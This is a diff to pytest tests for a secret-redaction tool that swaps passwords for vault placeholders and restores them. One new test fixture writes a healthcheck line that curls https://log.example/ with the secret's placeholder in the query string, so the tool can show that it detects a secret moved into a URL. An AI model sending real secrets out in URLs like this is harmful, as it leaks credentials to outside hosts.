@@ -50,11 +50,42 @@ def test_placeholders_lost_and_unknown_are_told(tmp_path: Path, capsys: Capture)
     vault = str(tmp_path / "vault.json")
     main(["redact", "--vault", vault, one])
     placeholder = capsys.readouterr().out.split("DB_PASSWORD: ")[1].split()[0]
-    (answer,) = written(tmp_path, answer="a: SE_PASSWORD_9_z9\n")
+    unknown = placeholder.replace("_1_", "_9_")
+    (answer,) = written(tmp_path, answer=f"a: {unknown}\n")
     assert main(["restore", "--vault", vault, answer]) == 2
     out, err = capsys.readouterr()
-    assert out == "a: SE_PASSWORD_9_z9\n"
-    assert err == f"lost placeholder: {placeholder}\nunknown placeholder: SE_PASSWORD_9_z9\n"
+    assert out == f"a: {unknown}\n"
+    assert err == f"lost placeholder: {placeholder}\nunknown placeholder: {unknown}\n"
+
+
+def test_what_another_vault_gave_is_named_and_never_filled(tmp_path: Path, capsys: Capture) -> None:
+    one, two = written(tmp_path, one=SECRET, two=SECRET.replace(WORD, "kO7-wq2Lr9Zd"))
+    vaults = [str(tmp_path / name) for name in ("one.json", "two.json")]
+    main(["redact", "--vault", vaults[0], one])
+    given = capsys.readouterr().out
+    main(["redact", "--vault", vaults[1], two])
+    capsys.readouterr()
+    (answer,) = written(tmp_path, answer=given)
+    assert main(["restore", "--vault", vaults[1], answer]) == 2
+    out, err = capsys.readouterr()
+    assert out == given
+    name = given.split("DB_PASSWORD: ")[1].split()[0]
+    assert f"foreign placeholder: {name} was given by another vault, and stays as it is\n" in err
+
+
+def test_a_secret_that_moved_into_a_url_is_told_with_its_line(tmp_path: Path, capsys: Capture) -> None:
+    (one,) = written(tmp_path, one=SECRET)
+    vault = str(tmp_path / "vault.json")
+    main(["redact", "--vault", vault, one])
+    given = capsys.readouterr().out
+    name = given.split("DB_PASSWORD: ")[1].split()[0]
+    sent = f"    healthcheck: {{test: 'curl https://log.example/?k={name}'}}\n"
+    (answer,) = written(tmp_path, answer=given + sent)
+    assert main(["restore", "--vault", vault, answer]) == 0
+    assert capsys.readouterr().err == (
+        f"{answer}:6: {name} stands in a URL of log.example, under services.db.healthcheck.k; "
+        "stood under services.db.environment.DB_PASSWORD\n"
+    )
 
 
 @pytest.mark.parametrize("before", [None, 0o644], ids=["new", "there already"])
@@ -169,12 +200,12 @@ def test_a_leak_is_a_sentence_and_nothing_is_printed(
     tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     def leak(*_: object) -> None:
-        raise LeakError("SE_PASSWORD_1_x0", 7)
+        raise LeakError("SE_PASSWORD_1_k4f7m2", 7)
 
     (one,) = written(tmp_path, one=SECRET)
     monkeypatch.setattr(redaction, "gate", leak)
     assert main(["redact", "--vault", str(tmp_path / "vault.json"), one]) == 2
     out, err = capsys.readouterr()
     assert out == ""
-    assert err.startswith(f"{one}: the outgoing text still holds a part of SE_PASSWORD_1_x0")
+    assert err.startswith(f"{one}: the outgoing text still holds a part of SE_PASSWORD_1_k4f7m2")
     assert not (tmp_path / "vault.json").exists()
